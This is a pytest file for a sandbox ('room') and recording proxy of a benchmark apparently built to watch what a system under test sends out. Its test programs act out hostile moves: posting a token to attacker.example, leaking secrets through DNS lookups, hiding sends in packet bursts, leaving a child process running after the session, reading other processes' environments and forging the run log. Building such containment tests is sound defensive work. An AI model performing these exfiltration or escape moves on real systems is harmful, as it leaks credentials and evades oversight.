"""Rooms (guardbench/room/): every connection a system under test makes is captured or named.

Each test starts a real room (Linux namespaces) and a real recording proxy, runs a small Python
program inside the room as a system under test would run, and reads the record."""
from __future__ import annotations

import os
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from guardbench.room import Room, unavailable
from guardbench.room.dns import Resolver, parse
from guardbench.room.sniff import read

pytest.importorskip("cryptography")
if unavailable():
    pytest.skip(f"no room can be made here: {unavailable()}", allow_module_level=True)

from guardbench.execution.world import make_wire  # noqa: E402
from guardbench.proxy.server import RecordingProxy  # noqa: E402

PRELUDE = textwrap.dedent('''
    import json, os, socket, ssl, urllib.request
    CTX = ssl.create_default_context(cafile=os.environ["CA"])
    def go(url, **kw):
        try:
            r = urllib.request.urlopen(urllib.request.Request(url, **kw), context=CTX, timeout=10)
            return r.status
        except urllib.error.HTTPError as e:
            return e.code
        except Exception as e:
            return repr(e)
''')


def in_room(code: str, *, hide: tuple[str, ...] = (), env: dict[str, str] | None = None,
            settle: float = 0.0) -> tuple[list, Room, str]:
    """Run ``code`` inside a fresh room; return (the wire's exchanges, the ended room, its output)."""
    proxy = RecordingProxy().start()
    recorder = make_wire(1, "room-test")
    proxy.route(recorder)
    room = Room(hide=hide).start()
    proxy.serve_room(room)
    try:
        with tempfile.TemporaryFile(mode="w+") as out:
            run_env = {"PATH": os.environ["PATH"], "CA": room.give(proxy.ca_path), **(env or {})}
            subprocess.run(room.command([sys.executable, "-c", PRELUDE + textwrap.dedent(code)]),
                           stdout=out, stderr=subprocess.STDOUT, env=run_env, timeout=60)
            time.sleep(settle)
            room.end()
            out.seek(0)
            printed = out.read()
    finally:
        proxy.close_room()
        room.close()
        proxy.close()
    return list(recorder.exchanges), room, printed


def urls(exchanges: list) -> list[str]:
    return [f"{ex.request.method} {ex.request.url}" for ex in exchanges]


def test_a_client_that_ignores_the_proxy_is_captured_by_name_through_the_rooms_dns():
    wire, room, out = in_room('''
        print(go("https://api-m.sandbox.paypal.com/v1/oauth2/token", data=b"grant_type=client_credentials",
                 headers={"Authorization": "Basic eDp5"}))
        print(go("https://attacker.example/collect", data=b"token=abc"))
    ''')
    assert urls(wire) == ["POST https://api-m.sandbox.paypal.com/v1/oauth2/token",
                          "POST https://attacker.example/collect"], out
    assert wire[0].response.status == 401 and wire[1].request.body == "token=abc"
    names = {q["name"] for q in room.account()["dns"]}
    assert {"api-m.sandbox.paypal.com", "attacker.example"} <= names
    assert room.account()["escapes"] == []


def test_an_address_dialled_directly_and_bytes_that_are_not_http_are_on_the_record():
    wire, room, out = in_room('''
        print(go("http://203.0.113.9:8080/pay?to=evil"))
        s = socket.create_connection(("198.51.100.7", 443), 5)
        s.sendall(b"\\x00\\x01not-tls secret"); s.close()
        s = socket.create_connection(("10.1.2.3", 80), 5)
        s.sendall(b"\\x00raw"); s.close()
    ''', settle=0.3)
    assert "GET http://203.0.113.9:8080/pay?to=evil" in urls(wire), out
    assert "RAW tcp://10.1.2.3:80/" in urls(wire)


def test_a_port_nobody_listens_on_and_other_protocols_are_escapes_never_silence():
    # no pause before the room ends: what a process sent is on the room's socket once it returned
    wire, room, out = in_room('''
        try:
            socket.create_connection(("192.0.2.1", 9999), 3)
        except OSError as e:
            print("refused", e)
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.2", 5000))
    ''')
    assert "tcp to 192.0.2.1:9999" in room.account()["escapes"], out
    assert "udp to 192.0.2.2:5000" in room.account()["escapes"]


def test_an_escape_the_rooms_thread_is_still_reading_is_kept_before_the_account(monkeypatch):
    """The room's thread reads packets as they come; a drain (``end``'s, before the arm takes the
    account) must not return while that thread holds an escape it has read but not kept. Before
    the fix it did, and 1 run in 3 of the hostile suite's odd port scored answered on a loaded
    machine. Here the thread's reading is held open until the second drain has begun."""
    import threading

    from guardbench.room import inside
    syn = struct.pack("!HHIIBBHHH", 40000, 9999, 0, 0, 0x50, 0x02, 0, 0, 0)
    packet = bytes([0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0, 127, 0, 0, 1, 192, 0, 2, 1]) + syn

    class Socket:                     # the packet socket: one SYN as sent, then nothing
        def __init__(self) -> None:
            self.queue = [(packet, ("lo", 2048, 4, 772, b""))]

        def recvfrom(self, size: int) -> tuple:
            if not self.queue:
                raise BlockingIOError
            return self.queue.pop()

        def getsockopt(self, *args: int) -> bytes:
            return struct.pack("II", 1, 0)

        def close(self) -> None:
            pass

    reading, second = threading.Event(), threading.Event()

    def held(*args):
        reading.set()
        second.wait(5)
        time.sleep(0.2)               # the second drain is waiting by now (or has returned)
        return read(*args)
    monkeypatch.setattr(inside, "read", held)
    room = Room()
    room._packets = Socket()          # type: ignore[assignment]
    thread = threading.Thread(target=room.drain_packets)    # the room's thread
    thread.start()
    assert reading.wait(5)
    second.set()
    room.drain_packets()              # end()'s drain
    kept = [e.line() for e in room.escapes]
    thread.join(5)
    room.close()
    assert kept == ["tcp to 192.0.2.1:9999"]


def test_once_the_room_is_gone_a_packet_is_judged_by_the_listeners_it_last_saw():
    """After the room's processes are gone its /proc is too: the copy as received of a connection
    to the system's own listener, read then, is not an escape; to a port nobody listened on, it
    is."""
    from guardbench.room.inside import Inside

    def syn(port: int) -> bytes:
        tcp = struct.pack("!HHIIBBHHH", 40000, port, 0, 0, 0x50, 0x02, 0, 0, 0)
        return bytes([0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0, 127, 0, 0, 1, 192, 0, 2, 1]) + tcp

    class Socket:
        def __init__(self, *packets: bytes) -> None:
            self.queue = [(p, ("lo", 2048, 0, 772, b"")) for p in packets]

        def recvfrom(self, size: int) -> tuple:
            if not self.queue:
                raise BlockingIOError
            return self.queue.pop(0)

        def getsockopt(self, *args: int) -> bytes:
            return struct.pack("II", 0, 0)

    inside = Inside()
    inside.tcp_ports, inside.holder_pid = (443,), 2 ** 22 + 1      # no such process
    inside._listening = {7000}                # what the live room last saw listening
    inside.gone = True
    inside._packets = Socket(syn(7000), syn(9999))                  # type: ignore[assignment]
    inside.drain_packets()
    assert [e.line() for e in inside.escapes] == ["tcp to 192.0.2.1:9999"]


def test_lookups_sent_without_waiting_for_an_answer_are_on_the_record(monkeypatch):
    """A DNS query over UDP, and one over TCP, each sent and abandoned at once (a leak needs no
    answer), are recorded before the account is taken, however slowly the room answers."""
    def slow(self, data, proto):
        time.sleep(0.3)
        return answer(self, data, proto)
    answer = Resolver.answer
    monkeypatch.setattr(Resolver, "answer", slow)
    proxy = RecordingProxy().start()
    proxy.route(make_wire(1, "room-test"))
    room = Room().start()
    proxy.serve_room(room)
    try:
        subprocess.run(room.command([sys.executable, "-c", textwrap.dedent('''
            import socket, struct
            def query(name):
                labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
                return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", 1, 1)
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query("udp-leak.exfil.example"), ("192.0.2.53", 53))
            q = query("tcp-leak.exfil.example")
            with socket.create_connection(("192.0.2.53", 53), 3) as c:
                c.sendall(len(q).to_bytes(2, "big") + q)
        ''')]), env={"PATH": os.environ["PATH"]}, timeout=60, check=True)
        room.end()
        account = room.account()        # as the arm takes it (arms/external.py): before close()
    finally:
        proxy.close_room()
        room.close()
        proxy.close()
    names = {d["name"] for d in account["dns"]}
    assert {"udp-leak.exfil.example", "tcp-leak.exfil.example"} <= names, account


def test_packets_the_room_could_not_read_are_counted_and_make_a_run_unmeasured():
    """A burst the room's socket has no room for (a hostile system can send one to hide an escape
    in it) is counted, never silently lost; the arm then marks what may be unseen."""
    from guardbench.arms.base import Prepared
    from guardbench.arms.external import record_room
    proxy = RecordingProxy().start()
    proxy.route(make_wire(1, "room-test"))
    room = Room().start()
    proxy.serve_room(room)
    try:
        assert room._packets is not None
        room._packets.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)   # the kernel's least
        with room._draining:                     # the room's thread cannot read meanwhile
            subprocess.run(room.command([sys.executable, "-c", textwrap.dedent('''
                import socket
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                for i in range(200):
                    s.sendto(b"x" * 1000, ("192.0.2.2", 5000 + i))
            ''')]), env={"PATH": os.environ["PATH"]}, timeout=60, check=True)
        room.end()
    finally:
        proxy.close_room()
        room.close()
        proxy.close()
    account = room.account()
    assert account["dropped"] > 0 and len(account["escapes"]) < 200, account
    prepared = Prepared(session=None, world=None, setup_seq=0, secrets=())   # type: ignore[arg-type]
    record_room(prepared, account, None)
    assert any("could not read" in u and str(account["dropped"]) in u for u in prepared.unseen)
    assert prepared.external["room"]["dropped"] == account["dropped"]


def test_a_credential_sent_as_a_dns_lookup_is_recorded():
    wire, room, out = in_room('''
        try:
            socket.gethostbyname("tok3n-s3cret.exfil.example")
        except OSError as e:
            print(e)
    ''')
    assert "tok3n-s3cret.exfil.example" in {q["name"] for q in room.account()["dns"]}, out


def test_a_child_that_outlives_the_run_pays_on_the_record_and_is_killed_and_named():
    wire, room, out = in_room('''
        import subprocess, sys
        late = PRELUDE_SRC + "import time; time.sleep(0.5); go('https://api-m.sandbox.paypal.com/late')\\n" \\
            "time.sleep(60)"
        subprocess.Popen([sys.executable, "-c", late], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        print("answered")
    '''.replace("PRELUDE_SRC", repr(PRELUDE)), settle=3.0)
    assert "GET https://api-m.sandbox.paypal.com/late" in urls(wire), out
    assert len(room.survivors) == 1 and f"{sys.executable} -c" in room.survivors[0]
    pid = int(room.survivors[0].split(":")[0].split()[1])
    assert not Path(f"/proc/{pid}").exists() or "zombie" in Path(f"/proc/{pid}/status").read_text().lower()


def test_the_room_sees_no_process_of_guardbench_and_no_folder_it_keeps():
    base = Path(tempfile.mkdtemp(prefix="gb-room-test-"))
    base.chmod(0o755)                  # readable by anyone: the room's mount is what must hide it
    secret = base / "run"
    secret.mkdir()
    secret.chmod(0o777)                # even writable by anyone
    (secret / "runs.jsonl").write_text("{}\n")
    os.environ["GB_ROOM_CANARY"] = "canary-value-31337"
    try:
        wire, room, out = in_room(f'''
            found = []
            for p in os.listdir("/proc"):
                if p.isdigit():
                    try:
                        found.append(open(f"/proc/{{p}}/environ", "rb").read())
                    except OSError:
                        pass
            print("canary" if any(b"canary-value-31337" in e for e in found) else "no canary")
            print(os.listdir({str(secret)!r}))
            try:
                open({str(secret / "runs.jsonl")!r}, "w").write("forged")
                print("wrote")
            except OSError as e:
                print("cannot write", e.errno)
        ''', hide=(str(secret),))
    finally:
        del os.environ["GB_ROOM_CANARY"]
    try:
        assert "no canary" in out and "[]" in out and "cannot write" in out, out
        assert (secret / "runs.jsonl").read_text() == "{}\n"
    finally:
        shutil.rmtree(base)


def test_internal_routing_headers_are_stripped_and_hosts_read_as_paypals_edge_does():
    wire, room, out = in_room('''
        print(go("http://attacker.example/x", headers={"X-Guardbench-Original-Host": "api-m.sandbox.paypal.com"}))
        os.environ["HTTPS_PROXY"] = "http://127.0.0.1:3128"
        print(go("https://API-M.Sandbox.PayPal.com./v2/checkout/orders/1"))
    ''')
    assert urls(wire) == ["GET http://attacker.example/x",
                          "GET https://api-m.sandbox.paypal.com/v2/checkout/orders/1"], out
    assert all("x-guardbench" not in k.lower() for ex in wire for k, _ in ex.request.headers)


# ---------------------------------------------------------------------- parsers, pinned to bytes

def test_dns_parse_and_answer_follow_rfc_1035():
    # a query for example.com A, id 0x1234, RD set, as dig sends it
    query = bytes.fromhex("123401000001000000000000076578616d706c6503636f6d0000010001")
    qid, question, name, qtype = parse(query)
    assert (qid, name, qtype) == (0x1234, "example.com", 1)
    resolver = Resolver()
    reply = resolver.answer(query)
    assert struct.unpack("!HHHH", reply[:8]) == (0x1234, 0x8180, 1, 1)
    assert reply[-4:] == bytes([198, 18, 0, 1]) and resolver.by_address["198.18.0.1"] == "example.com"
    assert resolver.answer(query)[-4:] == bytes([198, 18, 0, 1])           # the same name, the same address


def test_the_packet_reader_names_new_connections_only():
    def ipv4(proto: int, payload: bytes, dst: bytes = bytes([192, 0, 2, 1])) -> bytes:
        return bytes([0x45, 0, 0, 20 + len(payload), 0, 0, 0, 0, 64, proto, 0, 0, 127, 0, 0, 1]) + dst + payload
    syn = struct.pack("!HHIIBBHHH", 40000, 9999, 0, 0, 0x50, 0x02, 0, 0, 0)
    synack = struct.pack("!HHIIBBHHH", 9999, 40000, 0, 0, 0x50, 0x12, 0, 0, 0)
    assert read(ipv4(6, syn), frozenset({443}), frozenset({53})).line() == "tcp to 192.0.2.1:9999"
    assert read(ipv4(6, synack), frozenset({443}), frozenset({53})) is None
    assert read(ipv4(6, struct.pack("!HHIIBBHHH", 1, 443, 0, 0, 0x50, 0x02, 0, 0, 0)), frozenset({443}),
                frozenset({53})) is None
    assert read(ipv4(1, bytes([8, 0, 0, 0])), frozenset(), frozenset()).line() == "icmp to 192.0.2.1"
    assert read(ipv4(1, bytes([3, 3, 0, 0])), frozenset(), frozenset()) is None


def test_no_room_can_be_made_is_said_in_one_line(monkeypatch):
    from guardbench.room import room as room_module
    monkeypatch.setattr(room_module, "_checked", {})
    monkeypatch.setattr(room_module.sys, "platform", "darwin")
    why = room_module.unavailable()
    assert why and "\n" not in why and "darwin" in why
    socket.gethostname()
